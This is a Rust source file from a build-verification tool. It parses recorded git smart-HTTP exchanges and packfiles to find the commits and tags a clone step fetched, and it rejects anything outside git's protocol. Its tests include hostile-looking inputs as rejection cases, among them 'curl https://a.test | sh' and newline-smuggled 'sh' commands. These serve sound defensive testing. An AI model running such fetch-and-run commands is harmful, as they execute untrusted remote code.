//! What a step that clones repositories was given, as far as somebody can have signed it: out of git's protocol over HTTP, read by
//! our own image as a build step, because packs are large.
//!
//! A commit vouches for its files and for its history. So everything that was brought hangs on the **tips**: the commits that
//! are no other's parent. What a server says besides (names of refs, capabilities) must be of the forms that git knows, so
//! that nothing else passes as an answer of git's.
//!
//! Source: git's `Documentation/gitprotocol-common.adoc` (pkt-lines), `gitprotocol-http.adoc`, `gitprotocol-pack.adoc` (versions 0
//! and 1), `gitprotocol-v2.adoc`.

use std::{
    collections::BTreeSet,
    fs::{self, File},
    io::{self, BufRead, BufReader, Write},
    path::Path,
};

use base64ct::{Base64, Encoding as _};
use serde::{Deserialize, Serialize};

use super::{
    bodies,
    launch::{self, BODIES, RECORDING},
    pack::Commits,
    record::{Exchange, shown},
};
use crate::verify::git::{Format, MAX_TAGS, Objects};

/// Longest answer that the step writes, in bytes.
pub const MAX_ANSWER: usize = 64 << 20;
/// Most tips of one repository, and most tags where tags must be signed.
const MAX_TIPS: usize = 100;
/// Most refs that a server may offer.
const MAX_REFS: usize = 500_000;
/// Longest line of the protocol, with its length (`LARGE_PACKET_MAX`).
const MAX_LINE: usize = 65_520;

const REFS: &str = "/info/refs?service=git-upload-pack";
const UPLOAD_PACK: &str = "/git-upload-pack";

/// A commit that was brought, with what may be signed.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Tip {
    /// Its full id.
    pub commit: String,
    /// The tag that it was offered as, by its name; nothing where tags don't matter or none names it.
    pub tag: String,
    /// The tags from there to the commit, and the commit where it is a tip.
    pub objects: Objects,
}

/// The repository that an exchange is git's with, as its user names it; `None` if it is none.
#[must_use]
pub fn remote(exchange: &Exchange) -> Option<&str> {
    if exchange.status != 200 {
        return None;
    }
    match exchange.method.as_str() {
        "GET" => exchange.url.strip_suffix(REFS),
        "POST" => exchange.url.strip_suffix(UPLOAD_PACK),
        _ => None,
    }
}

#[derive(Serialize, Deserialize)]
#[serde(rename_all = "kebab-case", deny_unknown_fields)]
enum Answer {
    Tips(Vec<Written>),
    Failed(String),
}

#[derive(Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
struct Written {
    commit: String,
    tag: String,
    /// Base64.
    tags: Vec<String>,
    bytes: Option<String>,
}

/// The step: writes the tips that the recording in `folder`, whose bodies are checked, has of `remote`, to `out`. With `tags` also every commit that was offered as a tag.
///
/// # Errors
/// Whatever writing says; that the answers cannot be read is an answer.
pub fn run(folder: &Path, remote: &str, tags: bool, out: &Path) -> io::Result<()> {
    let pack = out.with_extension("pack");
    let answer = match tips(folder, remote, tags, &pack) {
        Ok(tips) => Answer::Tips(tips.into_iter().map(written).collect()),
        Err(error) => Answer::Failed(error.to_string()),
    };
    match fs::remove_file(&pack) {
        Err(error) if error.kind() != io::ErrorKind::NotFound => return Err(error),
        _ => {}
    }
    File::create(out)?.write_all(&serde_json::to_vec(&answer)?)
}

fn written(tip: Tip) -> Written {
    let text = |bytes: &Vec<u8>| Base64::encode_string(bytes);
    Written {
        commit: tip.commit,
        tag: tip.tag,
        tags: tip.objects.tags.iter().map(text).collect(),
        bytes: tip.objects.commit.as_ref().map(text),
    }
}

/// Reads what the step wrote: the tips, or why there are none.
///
/// # Errors
/// A sentence that says what is wrong with it.
pub fn read(bytes: &[u8]) -> Result<Result<Vec<Tip>, String>, String> {
    let decode = |text: String| Base64::decode_vec(&text).map_err(|error| error.to_string());
    let tips = match serde_json::from_slice(bytes).map_err(|error| error.to_string())? {
        Answer::Failed(why) => return Ok(Err(why)),
        Answer::Tips(tips) => tips,
    };
    let tips = tips.into_iter().map(|tip| {
        Ok(Tip {
            commit: tip.commit,
            tag: tip.tag,
            objects: Objects {
                tags: tip.tags.into_iter().map(decode).collect::<Result<_, _>>()?,
                commit: tip.bytes.map(decode).transpose()?,
            },
        })
    });
    tips.collect::<Result<_, String>>().map(Ok)
}

fn tips(folder: &Path, remote: &str, tags: bool, pack: &Path) -> io::Result<Vec<Tip>> {
    let recording = launch::read(&folder.join(RECORDING))?;
    let mut offered = Offered::default();
    let mut commits: Option<Commits> = None;
    let exchanges = recording.exchanges.iter();
    for exchange in exchanges.filter(|one| self::remote(one) == Some(remote) && one.has_body()) {
        if let Some(encoding) = exchange.headers.get("content-encoding") {
            return Err(io::Error::other(format!(
                "the server compressed its answers ({encoding}), which is not undone here"
            )));
        }
        let body = bodies::path(&folder.join(BODIES), &exchange.digest);
        let mut into = File::create(pack)?;
        let size = offered.read(&mut BufReader::new(File::open(body)?), &mut into)?;
        drop(into);
        if size > 0 {
            let format = offered.format.unwrap_or(Format::Sha1);
            commits
                .get_or_insert_with(|| Commits::new(format))
                .add(pack)?;
        }
    }
    let Some(commits) = commits else {
        return Err(io::Error::other(
            "it only asked for names, which nobody signs: no commit was brought",
        ));
    };
    let mut found: Vec<Tip> = Vec::new();
    let too_many = |found: &[Tip]| {
        if found.len() < MAX_TIPS {
            return Ok(());
        }
        Err(io::Error::other(format!(
            "it brought more than {MAX_TIPS} branches or tags: clone one, with --branch NAME --single-branch"
        )))
    };
    let mut named = BTreeSet::new();
    if tags {
        for (name, id) in &offered.tags {
            let Some((commit, objects)) = follow(&commits, name, id)? else {
                continue;
            };
            too_many(&found)?;
            named.insert(commit.clone());
            found.push(Tip {
                commit,
                tag: name.clone(),
                objects: Objects {
                    tags: objects,
                    commit: None,
                },
            });
        }
    }
    for (commit, bytes) in commits.tips() {
        for tip in found.iter_mut().filter(|tip| tip.commit == commit) {
            tip.objects.commit = Some(bytes.to_vec());
        }
        if !named.contains(commit) {
            too_many(&found)?;
            found.push(Tip {
                commit: commit.to_owned(),
                tag: String::new(),
                objects: Objects {
                    tags: Vec::new(),
                    commit: Some(bytes.to_vec()),
                },
            });
        }
    }
    for tag in commits.tags.values() {
        target(tag)?;
    }
    if found.is_empty() {
        return Err(io::Error::other("no commit was brought"));
    }
    found.sort_by(|a, b| (&a.commit, &a.tag).cmp(&(&b.commit, &b.tag)));
    Ok(found)
}

/// The commit that `id`, offered as the tag `name`, leads to, and the tags on the way; `None` if it was not brought.
fn follow(commits: &Commits, name: &str, id: &str) -> io::Result<Option<(String, Vec<Vec<u8>>)>> {
    let mut tags = Vec::new();
    let mut id = id.to_owned();
    while let Some(tag) = commits.tags.get(&id) {
        if tags.len() > MAX_TAGS {
            return Err(io::Error::other(format!(
                "the tag {name} has more than {MAX_TAGS} others between it and a commit"
            )));
        }
        tags.push(tag.clone());
        id = target(tag)?;
    }
    Ok((commits.has(&id) || !tags.is_empty()).then_some((id, tags)))
}

/// What a tag names: a commit or another tag. What else it could name, no commit would vouch for.
fn target(tag: &[u8]) -> io::Result<String> {
    let mut lines = tag.split(|byte| *byte == b'\n');
    let mut next = |name: &str| {
        let line = std::str::from_utf8(lines.next()?).ok()?;
        line.strip_prefix(name)
    };
    match (next("object "), next("type ")) {
        (Some(id), Some("commit" | "tag")) if is_id(id) => Ok(id.to_owned()),
        _ => Err(io::Error::other(
            "it brought a tag of something that is no commit: clone one branch, with --branch NAME --single-branch --no-tags",
        )),
    }
}

/// What a server offers.
#[derive(Debug, Default)]
struct Offered {
    format: Option<Format>,
    /// Tags, by name without `refs/tags/`, with the id of a tag or commit.
    tags: BTreeSet<(String, String)>,
}

impl Offered {
    /// Reads one answer; what is in it of a pack goes to `pack`. How many bytes that is.
    fn read(&mut self, answer: &mut impl BufRead, pack: &mut impl Write) -> io::Result<u64> {
        let mut size = 0_u64;
        let mut line = vec![0; MAX_LINE];
        while !answer.fill_buf()?.is_empty() {
            let mut head = [0; 4];
            answer.read_exact(&mut head).map_err(|_| unknown())?;
            // A client that did not ask for anything beside the pack gets it bare.
            if head == *b"PACK" {
                pack.write_all(&head)?;
                return Ok(io::copy(answer, pack)?.saturating_add(4));
            }
            let head = std::str::from_utf8(&head).map_err(|_| unknown())?;
            let len = match usize::from_str_radix(head, 16) {
                // The ends of lists, sections and answers.
                Ok(0..=2) => continue,
                Ok(len) => len.checked_sub(4).ok_or_else(unknown)?,
                Err(_) => return Err(unknown()),
            };
            let line = line.get_mut(..len).ok_or_else(unknown)?;
            answer.read_exact(line).map_err(|_| unknown())?;
            match line.split_first() {
                Some((1, part)) => {
                    pack.write_all(part)?;
                    size = size.saturating_add(part.len() as u64);
                }
                // Progress, for people.
                Some((2, _)) => {}
                Some((3, why)) => {
                    let why = String::from_utf8_lossy(why);
                    return Err(io::Error::other(format!(
                        "the server broke off: {}",
                        shown(&why)
                    )));
                }
                _ => self.line(line)?,
            }
        }
        Ok(size)
    }

    /// One line of text.
    fn line(&mut self, line: &[u8]) -> io::Result<()> {
        let line = line.strip_suffix(b"\n").unwrap_or(line);
        // Capabilities stand behind the first ref.
        let mut parts = line.splitn(2, |byte| *byte == 0);
        let text = parts.next().unwrap_or_default();
        let capabilities = parts.next().unwrap_or_default();
        let is_plain = |byte: &u8| matches!(byte, b' '..=b'~');
        if !capabilities.iter().all(is_plain) {
            return Err(unknown());
        }
        let text = std::str::from_utf8(text).map_err(|_| unknown())?;
        if text.chars().any(char::is_control) {
            return Err(unknown());
        }
        let mut words = text.split(' ');
        let first = words.next().unwrap_or_default();
        if is_id(first) {
            return self.offer(first, words.next().unwrap_or_default());
        }
        let rest: Vec<&str> = words.collect();
        let known = match (first, rest.as_slice()) {
            ("#", ["service=git-upload-pack"])
            | ("version", ["1" | "2"])
            | (
                "NAK" | "ready" | "acknowledgments" | "packfile" | "shallow-info" | "wanted-refs",
                [],
            ) => true,
            ("shallow" | "unshallow", [id]) | ("ACK", [id]) => is_id(id),
            ("ACK", [id, "common" | "continue" | "ready"]) => is_id(id),
            // HEAD of a repository that is empty.
            ("unborn", [_, ..]) => true,
            // A capability of version 2: `key`, or `key=value`.
            (capability, _) => {
                let key = text.split('=').next().unwrap_or_default();
                let is_key =
                    |byte: u8| byte.is_ascii_lowercase() || byte.is_ascii_digit() || byte == b'-';
                !capability.is_empty()
                    && key.bytes().all(is_key)
                    && (text.contains('=') || rest.is_empty())
                    && text.bytes().all(|byte| is_plain(&byte))
            }
        };
        if known { Ok(()) } else { Err(unknown()) }
    }

    fn offer(&mut self, id: &str, name: &str) -> io::Result<()> {
        let format = Format::of(id).map_err(io::Error::other)?;
        if *self.format.get_or_insert(format) != format {
            return Err(io::Error::other("the server offers ids of two formats"));
        }
        if name.starts_with("refs/replace/") {
            return Err(io::Error::other(
                "the server offers replacements of objects (refs/replace), which no commit vouches for: ask for one branch or tag, by version 2 of git's protocol",
            ));
        }
        if let Some(name) = name.strip_prefix("refs/tags/")
            && !name.ends_with("^{}")
        {
            if self.tags.len() >= MAX_REFS {
                return Err(io::Error::other(format!(
                    "the server offers more than {MAX_REFS} tags"
                )));
            }
            self.tags.insert((name.to_owned(), id.to_owned()));
        }
        Ok(())
    }
}

fn is_id(text: &str) -> bool {
    Format::of(text).is_ok()
}

fn unknown() -> io::Error {
    io::Error::other("the server answered something that is not git's protocol")
}

#[cfg(test)]
mod tests {
    use std::path::PathBuf;

    use super::*;
    use crate::{
        digest::Digest,
        replay::{
            pack::tests::{Put, commit, id, pack},
            record::Recording,
        },
    };

    const REMOTE: &str = "https://git.test/app.git";

    /// A line of the protocol.
    fn line(bytes: &[u8]) -> Vec<u8> {
        [format!("{:04x}", bytes.len() + 4).as_bytes(), bytes].concat()
    }

    fn lines(all: &[&str]) -> Vec<u8> {
        let mut bytes: Vec<u8> = all.iter().flat_map(|text| line(text.as_bytes())).collect();
        bytes.extend(b"0000");
        bytes
    }

    /// How version 2 sends a pack.
    fn sent(pack: &[u8]) -> Vec<u8> {
        let mut bytes = line(b"packfile\n");
        bytes.extend(line(b"\x02Counting objects\r"));
        for part in pack.chunks(100) {
            bytes.extend(line(&[b"\x01", part].concat()));
        }
        bytes.extend(b"0000");
        bytes
    }

    fn tag(name: &str, kind: &str, id: &str) -> Vec<u8> {
        format!("object {id}\ntype {kind}\ntag {name}\n\nmessage\n").into_bytes()
    }

    fn tag_id(tag: &[u8]) -> String {
        Format::Sha1.id("tag", tag).unwrap()
    }

    fn exchange(method: &str, path: &str, body: &[u8]) -> Exchange {
        Exchange {
            method: method.into(),
            url: format!("{REMOTE}{path}"),
            asked: [].into(),
            sent: None,
            status: 200,
            headers: [].into(),
            digest: Digest::sha256(body),
            size: body.len() as u64,
        }
    }

    /// What the step finds in a recording with these answers to `git-upload-pack`, through the file that it writes.
    fn found(name: &str, answers: &[Vec<u8>], tags: bool) -> Result<Vec<Tip>, String> {
        let posts = answers
            .iter()
            .map(|body| (exchange("POST", UPLOAD_PACK, body), body.clone()));
        found_in(name, &posts.collect::<Vec<_>>(), tags)
    }

    fn found_in(
        name: &str,
        exchanges: &[(Exchange, Vec<u8>)],
        tags: bool,
    ) -> Result<Vec<Tip>, String> {
        let name = format!("verified-cloned-{name}-{}", std::process::id());
        let folder: PathBuf = std::env::temp_dir().join(name);
        let _ = fs::remove_dir_all(&folder);
        fs::create_dir_all(folder.join(BODIES)).unwrap();
        let mut recording = Recording::new(Digest::sha256(b"step"), "git clone");
        for (exchange, body) in exchanges {
            recording.exchanges.push(exchange.clone());
            fs::write(bodies::path(&folder.join(BODIES), &exchange.digest), body).unwrap();
        }
        fs::write(folder.join(RECORDING), recording.to_json().unwrap()).unwrap();
        let out = folder.join("answer");
        run(&folder, REMOTE, tags, &out).unwrap();
        let answer = fs::read(&out).unwrap();
        let left = fs::read_dir(&folder).unwrap().count();
        assert_eq!(left, 3, "nothing but recording, bodies and answer");
        fs::remove_dir_all(&folder).unwrap();
        read(&answer).unwrap()
    }

    #[test]
    fn the_tips_of_a_clone_are_found() {
        let first = commit(&[], "first");
        let second = commit(&[&id(&first)], "second");
        let packed = pack(&[Put::Whole(1, &second), Put::Whole(1, &first)]);
        let refs = lines(&[
            &format!("{} HEAD symref-target:refs/heads/main\n", id(&second)),
            &format!("{} refs/heads/main\n", id(&second)),
            &format!("{} refs/tags/light\n", id(&first)),
        ]);
        let advertised = [
            lines(&["# service=git-upload-pack\n"]),
            lines(&[
                "version 2\n",
                "agent=git/2.50\n",
                "ls-refs=unborn\n",
                "fetch=shallow wait-for-done\n",
                "object-format=sha1\n",
                "object-info\n",
            ]),
        ]
        .concat();
        let exchanges = [
            (exchange("GET", REFS, &advertised), advertised),
            (exchange("POST", UPLOAD_PACK, &refs), refs.clone()),
            (exchange("POST", UPLOAD_PACK, &sent(&packed)), sent(&packed)),
        ];
        let tip = |commit: &[u8], tag: &str, whole: bool| Tip {
            commit: id(commit),
            tag: tag.into(),
            objects: Objects {
                tags: Vec::new(),
                commit: whole.then(|| commit.to_vec()),
            },
        };
        assert_eq!(
            found_in("tips", &exchanges, false),
            Ok(vec![tip(&second, "", true)])
        );
        let mut wanted = vec![tip(&second, "", true), tip(&first, "light", false)];
        wanted.sort_by(|a, b| a.commit.cmp(&b.commit));
        assert_eq!(found_in("tips", &exchanges, true), Ok(wanted));
        // The same by version 0: names with capabilities, and a pack beside progress or bare.
        let names = lines(&[
            &format!(
                "{} HEAD\0multi_ack side-band-64k agent=git/2.50\n",
                id(&second)
            ),
            &format!("{} refs/heads/main\n", id(&second)),
        ]);
        for body in [
            [
                line(b"NAK\n"),
                line(&[b"\x01", packed.as_slice()].concat()),
                b"0000".to_vec(),
            ]
            .concat(),
            [line(b"NAK\n"), packed.clone()].concat(),
        ] {
            assert_eq!(
                found("tips", &[names.clone(), body], true),
                Ok(vec![tip(&second, "", true)])
            );
        }
    }

    #[test]
    fn tags_are_followed_under_the_name_that_they_were_offered_as() {
        let main = commit(&[], "main");
        let inner = tag("inner", "commit", &id(&main));
        let outer = tag("outer", "tag", &tag_id(&inner));
        let packed = pack(&[
            Put::Whole(4, &outer),
            Put::Whole(4, &inner),
            Put::Whole(1, &main),
        ]);
        let refs = lines(&[
            &format!("{} refs/tags/other peeled:{}\n", tag_id(&outer), id(&main)),
            &format!("{} refs/tags/other^{{}}\n", id(&main)),
            &format!("{} refs/tags/elsewhere\n", "1".repeat(40)),
        ]);
        let found = found("tags", &[refs, sent(&packed)], true).unwrap();
        assert_eq!(
            found,
            [Tip {
                commit: id(&main),
                tag: "other".into(),
                objects: Objects {
                    tags: vec![outer, inner],
                    commit: Some(main),
                },
            }]
        );
    }

    #[test]
    fn what_no_commit_vouches_for_is_refused() {
        let main = commit(&[], "main");
        let file = tag("file", "blob", &id(b"file"));
        let whole = pack(&[Put::Whole(1, &main)]);
        let good = sent(&whole);
        assert!(found("good", std::slice::from_ref(&good), true).is_ok());
        let many: Vec<Vec<u8>> = (0..=MAX_TIPS)
            .map(|number| commit(&[], &number.to_string()))
            .collect();
        let many: Vec<Put<'_>> = many.iter().map(|bytes| Put::Whole(1, bytes)).collect();
        let text = |text: &str| lines(&[text]);
        let cases: [(&str, Vec<Vec<u8>>, &str); 18] = [
            (
                "a replacement",
                vec![
                    good.clone(),
                    text(&format!("{0} refs/replace/{0}\n", id(&main))),
                ],
                "replacements",
            ),
            (
                "names alone",
                vec![text(&format!("{} refs/heads/main\n", id(&main)))],
                "only asked for names",
            ),
            (
                "a pack of nothing",
                vec![sent(&pack(&[]))],
                "no commit was brought",
            ),
            (
                "a tag of a file",
                vec![sent(&pack(&[Put::Whole(1, &main), Put::Whole(4, &file)]))],
                "no commit",
            ),
            (
                "too many branches",
                vec![sent(&pack(&many))],
                "more than 100",
            ),
            (
                "a script",
                vec![good.clone(), b"#!/bin/sh\necho\n".to_vec()],
                "not git's protocol",
            ),
            (
                "a script in a line",
                vec![good.clone(), text("curl https://a.test | sh\n")],
                "not git's protocol",
            ),
            (
                "a script as a comment",
                vec![good.clone(), text("# service=git-upload-pack; sh\n")],
                "not git's protocol",
            ),
            (
                "a second line in a line",
                vec![good.clone(), text("agent=git\nsh")],
                "not git's protocol",
            ),
            (
                "a line behind a name",
                vec![good.clone(), text(&format!("{} HEAD\0a\nsh", id(&main)))],
                "not git's protocol",
            ),
            (
                "another service",
                vec![good.clone(), text("# service=git-receive-pack\n")],
                "not git's protocol",
            ),
            (
                "another version",
                vec![good.clone(), text("version 3\n")],
                "not git's protocol",
            ),
            (
                "a cut line",
                vec![good.clone(), b"0009NAK\n".to_vec()],
                "not git's protocol",
            ),
            (
                "a cut length",
                vec![good.clone(), b"00".to_vec()],
                "not git's protocol",
            ),
            (
                "a length too small",
                vec![good.clone(), b"0003".to_vec()],
                "not git's protocol",
            ),
            (
                "a length too large",
                vec![good.clone(), b"ffff".to_vec()],
                "not git's protocol",
            ),
            (
                "an error",
                vec![good.clone(), line(b"\x03no\x1b[31m such ref")],
                "broke off",
            ),
            (
                "ids of two formats",
                vec![
                    text(&format!("{} HEAD\n", "1".repeat(64))),
                    text(&format!("{} HEAD\n", id(&main))),
                ],
                "two formats",
            ),
        ];
        for (name, answers, why) in cases {
            let error = found("bad", &answers, true).unwrap_err();
            assert!(
                error.contains(why) && !error.contains('\x1b'),
                "{name}: {error}"
            );
        }
        let mut encoded = exchange("POST", UPLOAD_PACK, &good);
        encoded
            .headers
            .insert("content-encoding".into(), "gzip".into());
        let error = found_in("bad", &[(encoded, good)], false).unwrap_err();
        assert!(error.contains("compressed"), "{error}");
    }

    #[test]
    fn what_gits_own_server_answers_is_read() {
        // `git for-each-ref` of what `testdata/cloned/make.py` makes: `main` with the tag `v1`, and `other`.
        let (main, other) = (
            "f21a861e7ab16873ee547ddec4ad0b3ba1241dbe",
            "d4b24dd5d2eee9a63358b320b7b2feb3eeffb7b8",
        );
        let read = |name: &str| {
            let folder = Path::new(env!("CARGO_MANIFEST_DIR")).join("testdata/cloned");
            fs::read(folder.join(name)).unwrap()
        };
        for (refs, pack) in [
            ("refs-v2", "pack-v2"),
            ("refs-v0", "pack-v0"),
            ("refs-v0", "pack-bare"),
        ] {
            let found = found("server", &[read(refs), read(pack)], true).unwrap();
            let found: Vec<_> = found
                .iter()
                .map(|tip| {
                    (
                        tip.commit.as_str(),
                        tip.tag.as_str(),
                        tip.objects.tags.len(),
                    )
                })
                .collect();
            let mut wanted = [(main, "v1", 1), (other, "", 0)];
            wanted.sort_unstable();
            assert_eq!(found, wanted, "{refs} {pack}");
        }
    }

    #[test]
    fn only_what_git_asks_for_is_gits() {
        let is =
            |method: &str, path: &str| remote(&exchange(method, path, b"x")).map(str::to_owned);
        for (method, path) in [("GET", REFS), ("POST", UPLOAD_PACK)] {
            assert_eq!(is(method, path).as_deref(), Some(REMOTE));
            let refused = Exchange {
                status: 401,
                ..exchange(method, path, b"x")
            };
            assert_eq!(remote(&refused), None);
        }
        for (method, path) in [
            ("POST", REFS),
            ("GET", UPLOAD_PACK),
            ("GET", "/info/refs"),
            ("GET", "/info/refs?service=git-receive-pack"),
            ("GET", "/info/refs?service=git-upload-pack&x=y"),
            ("GET", "/objects/info/packs"),
            ("POST", "/git-receive-pack"),
        ] {
            assert_eq!(is(method, path), None, "{method} {path}");
        }
    }
}
